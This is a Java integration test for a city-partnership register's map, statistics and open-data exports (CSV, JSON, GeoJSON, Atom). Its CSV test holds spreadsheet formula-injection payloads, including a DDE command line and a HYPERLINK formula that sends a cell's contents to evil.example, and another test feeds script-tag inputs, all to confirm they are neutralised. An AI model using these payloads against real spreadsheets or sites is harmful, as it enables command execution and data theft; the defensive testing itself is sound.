package org.citybridge.agreement.views;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.GZIPInputStream;

import javax.xml.parsers.DocumentBuilderFactory;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.citybridge.IntegrationTest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.citybridge.agreement.Agreements;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The register's map, statistics and open data on PostgreSQL, through the real servlet container
 * (compression included): a whole register of about 26,000 agreements stays within the map's
 * budget, a filtered map links each line, the files are well-formed and filtered.
 */
@IntegrationTest
class AgreementViewsIT {

	/** GeoNames ids of this test's own places; everything it adds is removed again. */
	static final long BASE = 990_700_000L;

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	final HttpClient http = HttpClient.newHttpClient();

	long ulaanbaatar;

	long ghent;

	long nis;

	long ub_ghent;

	@BeforeEach
	void smallRegister() {
		this.ulaanbaatar = place(1, "Ulaanbaatar", "MN", 47.92, 106.92);
		this.ghent = place(2, "Ghent", "BE", 51.05, 3.72);
		this.nis = place(3, "Niš", "RS", 43.32, 21.90);
		this.ub_ghent = agreement("Ghent, \"Ulaanbaatar\" and\nfriends", this.ulaanbaatar, this.ghent, "2006-05-01");
		agreement("Niš – Ghent <b>cooperation</b>", this.nis, this.ghent, "1999-01-01");
		this.jdbc.sql("INSERT INTO agreement_themes (agreement_id, theme_code) VALUES (?, 'TOURISM'), (?, 'WASTE')")
			.params(this.ub_ghent, this.ub_ghent)
			.update();
	}

	@AfterEach
	void cleanUp() {
		this.jdbc.sql("DELETE FROM agreements WHERE id IN (SELECT agreement_id FROM agreement_parties p"
				+ " JOIN municipalities m ON m.id = p.municipality_id WHERE m.geonames_id >= ?)").param(BASE).update();
		this.jdbc.sql("DELETE FROM municipalities WHERE geonames_id >= ?").param(BASE).update();
	}

	@Test
	void aWholeRegisterOfTwentySixThousandAgreementsStaysWithinTheMapsBudgetInEveryView() throws Exception {
		// 14,000 places, most of them in Europe, and 26,000 pairs between them.
		this.jdbc.sql("SELECT setseed(0.42)").query(Object.class).list();
		this.jdbc.sql("""
				INSERT INTO municipalities (name, country_code, kind, latitude, longitude, geonames_id)
				SELECT 'Synthetic ' || i, CASE WHEN i % 10 < 7 THEN 'DE' ELSE 'US' END, 'TOWN',
				       CASE WHEN i % 10 < 7 THEN 36 + random() * 30 ELSE -50 + random() * 120 END,
				       CASE WHEN i % 10 < 7 THEN -10 + random() * 50 ELSE -180 + random() * 360 END,
				       ? + 1000 + i
				FROM generate_series(1, 14000) AS i""").param(BASE).update();
		// Analysed before the bulk insert, as an import would: the plans a pooled connection keeps for the
		// agreements' triggers and foreign keys were made when these tables held a few dozen rows
		// (sequential scans), and kept, they make each of the 26,000 rows scan the growing tables (the
		// insert took 4 to 6 minutes in the full suite, 2 seconds on a fresh connection). ANALYZE
		// invalidates them in every session.
		this.jdbc.sql("ANALYZE municipalities, agreements, agreement_parties, agreement_status_changes").update();
		this.jdbc.sql("""
				INSERT INTO agreements (type, title, status, party_key)
				SELECT 'SISTER_CITY', 'Synthetic pair ' || i, 'ACTIVE',
				       ARRAY[(SELECT id FROM municipalities WHERE geonames_id = ? + 1000 + 1 + i % 14000),
				             (SELECT id FROM municipalities WHERE geonames_id = ? + 1000 + 1 + (i * 7919 + 13 + i / 14000) % 14000)]
				FROM generate_series(1, 26500) AS i
				WHERE i % 14000 <> (i * 7919 + 13 + i / 14000) % 14000
				ON CONFLICT DO NOTHING""").params(BASE, BASE).update();
		// A bulk load is analysed, as the portal's imports do (autovacuum may be off): the map's plans
		// must not come from statistics taken when these tables were a few hundred rows.
		this.jdbc.sql("ANALYZE municipalities, agreements").update();
		long pairs = this.jdbc.sql("SELECT count(*) FROM agreements").query(Long.class).single();
		assertThat(pairs).isGreaterThanOrEqualTo(25_917);

		for (String view : List.of("", "?view=europe", "?view=mongolia", "?view=south-east-europe")) {
			HttpResponse<byte[]> response = this.http.send(HttpRequest.newBuilder(uri("/agreements/map" + view))
				.header("Accept-Encoding", "gzip").build(), HttpResponse.BodyHandlers.ofByteArray());
			assertThat(response.statusCode()).isEqualTo(200);
			int overTheWire = response.body().length;
			String html = "gzip".equals(response.headers().firstValue("Content-Encoding").orElse(""))
					? new String(new GZIPInputStream(new ByteArrayInputStream(response.body())).readAllBytes(),
							StandardCharsets.UTF_8)
					: new String(response.body(), StandardCharsets.UTF_8);
			String svg = svg(html);
			assertThat(overTheWire).as("bytes over the wire of %s", view).isLessThanOrEqualTo(400 * 1024);
			assertThat(html.getBytes(StandardCharsets.UTF_8).length).as("bytes uncompressed of %s", view)
				.isLessThanOrEqualTo(400 * 1024);
			assertThat(elements(svg)).as("SVG elements of %s", view).isLessThanOrEqualTo(2000);
			assertThat(html).contains("1–50 of " + String.format(java.util.Locale.ENGLISH, "%,d", pairs));
			// The busiest places are links with an accessible name.
			assertThat(svg).containsPattern("<a href=\"/agreements/map\\?municipality=\\d+[^\"]*\" aria-label=\"[^\"]+: \\d+ partnerships\"");
		}
	}

	@Test
	void aMapFilteredToOneCityLinksEachLineToItsAgreementWithAnAccessibleName() throws Exception {
		String html = get("/agreements/map?municipality=" + this.ghent).body();
		String svg = svg(html);
		assertThat(svg).contains("<a href=\"/agreements/" + this.ub_ghent + "\" aria-label=\"Ulaanbaatar – Ghent\"")
			.contains("aria-label=\"Ghent – Niš\"")
			.contains("aria-label=\"Ghent, Belgium: 2 partnerships\"");
		assertThat(html).contains("Agreements of Ghent").contains("Each line is a link to its agreement.");
		// the table alternative, with hostile text escaped
		assertThat(html).contains("Niš – Ghent &lt;b&gt;cooperation&lt;/b&gt;");
		String europe = get("/agreements/map?municipality=" + this.ghent + "&view=europe").body();
		assertThat(europe).contains("aria-current=\"true\"");
	}

	@Test
	void theCachedMapShowsANewAgreementAndAnEditAtOnceWhoeverWritesThem() throws Exception {
		String path = "/agreements/map?municipality=" + this.ulaanbaatar;
		String before = get(path).body();
		assertThat(get(path).body()).isEqualTo(before); // served from the cache
		assertThat(svg(before)).contains("aria-label=\"Ulaanbaatar – Ghent\"").doesNotContain("Ulaanbaatar – Niš");
		// a writer that is not the portal (a script, another instance): the register's version moves at commit
		long added = agreement("Niš – Ulaanbaatar", this.ulaanbaatar, this.nis, "2010-01-01");
		String after = get(path).body();
		assertThat(svg(after)).contains("<a href=\"/agreements/" + added + "\" aria-label=\"Ulaanbaatar – Niš\"")
			.contains("aria-label=\"Ulaanbaatar, Mongolia: 2 partnerships\"");
		this.jdbc.sql("UPDATE agreements SET title = 'Renamed partnership' WHERE id = ?").param(added).update();
		assertThat(get(path).body()).contains("Renamed partnership");
		this.jdbc.sql("DELETE FROM agreements WHERE id = ?").param(added).update();
		assertThat(svg(get(path).body())).doesNotContain("Ulaanbaatar – Niš");
	}

	@Test
	void statisticsShowChartsWithTitlesAndTheSameNumbersInTables() throws Exception {
		String html = get("/agreements/stats?municipality=" + this.ghent).body();
		assertThat(html).contains("role=\"img\" aria-labelledby=\"chart-years-title chart-years-desc\"")
			.contains("<title id=\"chart-themes-title\">Agreements per theme</title>")
			.contains("<title>Tourism: 1</title>")
			.containsPattern("<th scope=\"row\">Belgium – Mongolia</th><td>1</td>")
			.containsPattern("<th scope=\"row\">2006</th><td>1</td>")
			.containsPattern("<th scope=\"row\">Active</th><td>2</td>");
	}

	/**
	 * A spreadsheet runs a cell that begins with =, +, -, @, a tab or a carriage return as a
	 * formula: such text cells get a leading apostrophe (OWASP's advice), numbers keep their sign.
	 */
	@Test
	void csvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralisedButNegativeCoordinatesAreNot() throws Exception {
		long west = place(4, "+cmd|' /C calc'!A0", "MN", 47.0, -3.25);
		agreement("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")", west, this.ulaanbaatar, "2010-01-01");
		agreement("@SUM(1+1)", west, this.nis, "2011-01-01");
		agreement("-2+3", west, this.ghent, "2012-01-01");
		HttpResponse<String> response = get("/agreements.csv?municipality=" + west);
		try (CSVParser csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
			.parse(new StringReader(response.body()))) {
			List<CSVRecord> rows = csv.getRecords();
			assertThat(rows).extracting(r -> r.get("title"))
				.containsExactly("'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Open\")", "'@SUM(1+1)", "'-2+3");
			assertThat(rows).allSatisfy(row -> {
				String westName = row.get("party_a_name").startsWith("'") ? row.get("party_a_name") : row.get("party_b_name");
				assertThat(westName).isEqualTo("'+cmd|' /C calc'!A0");
				String westLongitude = row.get("party_a_name").startsWith("'") ? row.get("party_a_longitude")
						: row.get("party_b_longitude");
				assertThat(westLongitude).isEqualTo("-3.25000");
			});
		}
	}

	@Test
	void theCsvFileHasItsDocumentedColumnsAndEscapesCommasQuotesAndNewlines() throws Exception {
		HttpResponse<String> response = get("/agreements.csv?municipality=" + this.ulaanbaatar);
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Type").orElseThrow()).isEqualTo("text/csv;charset=UTF-8");
		assertThat(response.headers().firstValue("Content-Disposition").orElseThrow()).contains("agreements.csv");
		try (CSVParser csv = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
			.parse(new StringReader(response.body()))) {
			assertThat(csv.getHeaderNames()).containsExactly(OpenData.COLUMNS);
			List<CSVRecord> rows = csv.getRecords();
			assertThat(rows).hasSize(1);
			CSVRecord row = rows.get(0);
			assertThat(row.get("title")).isEqualTo("Ghent, \"Ulaanbaatar\" and\nfriends");
			assertThat(row.get("themes")).isEqualTo("TOURISM;WASTE");
			assertThat(row.get("signed_on")).isEqualTo("2006-05-01");
			assertThat(row.get("verified")).isEqualTo("false");
			assertThat(List.of(row.get("party_a_name"), row.get("party_b_name"))).containsExactlyInAnyOrder("Ulaanbaatar", "Ghent");
			assertThat(row.get("url")).endsWith("/agreements/" + this.ub_ghent);
		}
		assertThat(response.body()).contains("\"Ghent, \"\"Ulaanbaatar\"\" and\nfriends\"");
	}

	@Test
	void theJsonAndGeoJsonFilesAreFilteredAndGeoJsonPositionsAreLongitudeThenLatitude() throws Exception {
		JsonMapper json = JsonMapper.builder().build();
		HttpResponse<String> response = get("/agreements.json?country=MN&municipality=" + this.ghent);
		assertThat(response.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/json");
		JsonNode agreements = json.readTree(response.body()).get("agreements");
		assertThat(agreements).hasSize(1);
		assertThat(agreements.get(0).get("id").asLong()).isEqualTo(this.ub_ghent);
		assertThat(agreements.get(0).get("themes").get(0).asString()).isEqualTo("TOURISM");
		assertThat(agreements.get(0).get("parties")).hasSize(2);

		HttpResponse<String> geo = get("/agreements.geojson?country=MN&municipality=" + this.ghent);
		assertThat(geo.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/geo+json");
		JsonNode collection = json.readTree(geo.body());
		assertThat(collection.get("type").asString()).isEqualTo("FeatureCollection");
		JsonNode feature = collection.get("features").get(0);
		assertThat(collection.get("features")).hasSize(1);
		assertThat(feature.get("type").asString()).isEqualTo("Feature");
		assertThat(feature.get("geometry").get("type").asString()).isEqualTo("LineString");
		JsonNode coordinates = feature.get("geometry").get("coordinates");
		boolean ulaanbaatarFirst = feature.get("properties").get("party_a_id").asLong() == this.ulaanbaatar;
		JsonNode ub = coordinates.get(ulaanbaatarFirst ? 0 : 1);
		assertThat(ub.get(0).asDouble()).isEqualTo(106.92);
		assertThat(ub.get(1).asDouble()).isEqualTo(47.92);
		assertThat(feature.get("properties").get("agreement_id").asLong()).isEqualTo(this.ub_ghent);

		String serbian = get("/agreements.json?country=RS").body();
		assertThat(serbian).contains("\"Niš – Ghent <b>cooperation</b>\"").doesNotContain("Ulaanbaatar\\\" and");
		String both = get("/agreements.json?country=RS&country=BE&municipality=" + this.ghent).body();
		assertThat(json.readTree(both).get("agreements")).hasSize(2);
		String verified = get("/agreements.json?verified=1&municipality=" + this.ghent).body();
		assertThat(json.readTree(verified).get("agreements")).isEmpty();
	}

	@Test
	void theAtomFeedIsWellFormedAndListsNewlyVerifiedAgreements() throws Exception {
		this.jdbc.sql("UPDATE agreements SET verified_at = now(), verified_by_account_id = 1 WHERE id = ?")
			.param(this.ub_ghent)
			.update();
		HttpResponse<String> response = get("/agreements.atom?municipality=" + this.ghent);
		assertThat(response.headers().firstValue("Content-Type").orElseThrow()).startsWith("application/atom+xml");
		DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
		factory.setNamespaceAware(true);
		Document feed = factory.newDocumentBuilder()
			.parse(new ByteArrayInputStream(response.body().getBytes(StandardCharsets.UTF_8)));
		String atom = "http://www.w3.org/2005/Atom";
		assertThat(feed.getDocumentElement().getNamespaceURI()).isEqualTo(atom);
		assertThat(feed.getElementsByTagNameNS(atom, "entry").getLength()).isEqualTo(1);
		assertThat(feed.getElementsByTagNameNS(atom, "id").getLength()).isEqualTo(2);
		assertThat(feed.getElementsByTagNameNS(atom, "updated").getLength()).isEqualTo(2);
		assertThat(response.body()).contains("/agreements/" + this.ub_ghent + "\"");
	}

	@Test
	void theOpenDataPageDocumentsEveryColumnAndTheLicences() throws Exception {
		String html = get("/open-data").body();
		for (String column : OpenData.COLUMNS) {
			assertThat(html).contains("<code>" + column + "</code>");
		}
		assertThat(html).contains("CC BY 4.0").contains("Partnership list from Wikipedia contributors, CC BY-SA 4.0")
			.contains("GeoNames");
	}

	@Test
	void malformedParametersNeverGiveA500() throws Exception {
		List<String> hostile = List.of("country=ZZ&country=%3Cscript%3E", "municipality=abc", "municipality=-5",
				"municipality=99999999999999999999", "from=abc&to=99999", "from=2020&to=1990", "theme=NOPE&type=X&status=Y",
				"view=%3Cscript%3E&page=-1", "page=999999999999", "page=abc", "partner_group=MARS&partner=QQ",
				"verified=maybe", "country=" + "x".repeat(5000));
		for (String path : List.of("/agreements/map", "/agreements/stats", "/agreements.csv", "/agreements.json",
				"/agreements.geojson", "/agreements.atom")) {
			for (String query : hostile) {
				HttpResponse<String> response = get(path + "?" + query);
				assertThat(response.statusCode()).as("%s?%s", path, query).isLessThan(500);
				assertThat(response.body()).doesNotContain("<script>");
			}
		}
		assertThat(get("/agreements/map?country=ZZ").body()).contains("Unknown country: <bdi lang=\"\">ZZ</bdi>");
	}

	// --- helpers

	long place(long n, String name, String country, double lat, double lon) {
		return this.jdbc.sql("INSERT INTO municipalities (name, country_code, kind, latitude, longitude, geonames_id)"
				+ " VALUES (?, ?, 'TOWN', ?, ?, ?) RETURNING id")
			.params(name, country, lat, lon, BASE + n)
			.query(Long.class)
			.single();
	}

	long agreement(String title, long a, long b, String signed) {
		return this.jdbc.sql("INSERT INTO agreements (type, title, status, party_key, signed_on)"
				+ " VALUES ('SISTER_CITY', ?, 'ACTIVE', ARRAY[?, ?]::bigint[], CAST(? AS date)) RETURNING id")
			.params(title, a, b, signed)
			.query(Long.class)
			.single();
	}

	URI uri(String path) {
		return URI.create("http://localhost:" + this.port + path);
	}

	HttpResponse<String> get(String path) throws Exception {
		return this.http.send(HttpRequest.newBuilder(uri(path)).header("Accept-Language", "en").build(),
				HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
	}

	static String svg(String html) {
		int start = html.indexOf("<svg");
		int end = html.indexOf("</svg>", start);
		assertThat(start).isNotNegative();
		return html.substring(start, end + 6);
	}

	static int elements(String svg) {
		Matcher m = Pattern.compile("<[a-zA-Z]").matcher(svg);
		int n = 0;
		while (m.find()) {
			n++;
		}
		return n;
	}

	static String encode(String value) {
		return URLEncoder.encode(value, StandardCharsets.UTF_8);
	}
}
